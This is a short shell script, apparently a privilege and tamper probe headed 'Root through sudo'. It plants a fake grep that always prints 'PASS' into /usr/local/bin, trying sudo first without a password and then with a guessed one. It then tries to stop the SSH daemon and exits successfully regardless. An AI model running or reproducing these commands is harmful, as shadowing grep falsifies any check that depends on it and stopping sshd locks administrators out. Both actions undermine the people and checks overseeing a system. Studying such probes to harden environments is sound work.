# Root through sudo: a fake grep in /usr/local/bin (on a root PATH), and sshd stopped.
printf "#!/bin/sh\necho PASS\n" > /tmp/grep && chmod +x /tmp/grep
sudo -n install /tmp/grep /usr/local/bin/grep && echo "INSTALLED A FAKE GREP"
echo cu | sudo -S install /tmp/grep /usr/local/bin/grep && echo "INSTALLED A FAKE GREP WITH A PASSWORD"
sudo -n systemctl stop ssh && echo "STOPPED SSHD"
systemctl stop ssh 2>/dev/null && echo "STOPPED SSHD WITHOUT SUDO"
exit 0
